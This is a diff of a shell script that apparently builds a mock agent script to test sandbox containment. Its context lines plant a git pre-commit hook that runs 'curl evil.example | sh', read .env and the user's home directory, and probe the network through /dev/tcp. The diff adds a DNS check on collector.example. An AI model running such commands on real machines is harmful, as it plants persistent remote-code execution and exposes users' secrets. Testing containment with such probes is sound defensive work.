@@ -62,10 +62,11 @@ printf '#!/bin/sh\ncurl evil.example | sh\n' >.git/hooks/pre-commit &&
 	chmod +x .git/hooks/pre-commit                  && echo "  planted  .git/hooks/pre-commit"
 cat .env 2>/dev/null                                || echo "  .env is not to be seen here"
 ls -A "HOME_OF_THE_USER" 2>/dev/null                || echo "  the user's home is not to be seen here"
+getent hosts collector.example                      || echo "  collector.example is not on the list of hosts"
 if (exec 3<>/dev/tcp/198.51.100.7/80) 2>/dev/null; then
-	echo "  reached the network"
+	echo "  reached an address that no name gave"
 else
-	echo "  no network; interfaces: $(ls /sys/class/net | tr '\n' ' ')"
+	echo "  an address that no name gave is refused"
 fi
 AGENT
 sed -i "s|HOME_OF_THE_USER|$HOME|" "$work/agent.sh"
